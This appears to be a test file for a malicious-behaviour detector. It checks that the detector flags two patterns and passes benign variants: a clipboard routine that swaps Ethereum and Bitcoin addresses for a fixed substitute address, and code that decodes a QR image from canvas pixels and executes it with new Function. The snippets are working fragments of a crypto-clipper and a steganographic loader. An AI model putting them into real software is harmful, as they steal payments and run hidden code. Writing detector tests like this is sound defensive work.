import assert from 'node:assert/strict';
import { behavioursOf, flowsOf } from './sent.js';

const RULES = `const rules = [[/0x[a-f0-9]{40}/gi, '0x00000000000000000000000000000000000000aa'], [/bc1[a-z0-9]{38}/g, 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq']];
  const swap = (text) => rules.reduce((t, [re, to]) => t.replace(re, to), text);`;

describe('browsers and desktops', () => {
  for (const [read, write] of [
    [`const c = require('clipboardy'); let t = c.readSync();`, `c.writeSync(swap(t));`],
    [`const c = require('clipboardy'); c.read().then((t) => {`, `c.write(swap(t)); });`],
  ] as const) {
    it(`have a clipboard in which addresses are replaced: ${write}`, () => {
      assert.deepEqual(behavioursOf(`${RULES} ${read} ${write}`), ['replaces-addresses import']);
      assert.deepEqual(behavioursOf(`${read} ${write.replace('swap(t)', "t.replace(/\\s+/g, ' ')")}`), []);
    });
  }

  it('have pixels in which code can be hidden', () => {
    const read = `const x = document.createElement('canvas').getContext('2d'); x.drawImage(new Image(), 0, 0); const d = require('jsqr')(x.getImageData(0, 0, 9, 9).data, 9, 9);`;
    assert.deepEqual(flowsOf(`${read} new Function(d.data)();`), ['image-data>evaluated']);
    assert.deepEqual(flowsOf(`${read} console.log(d.data);`), []);
  });
});
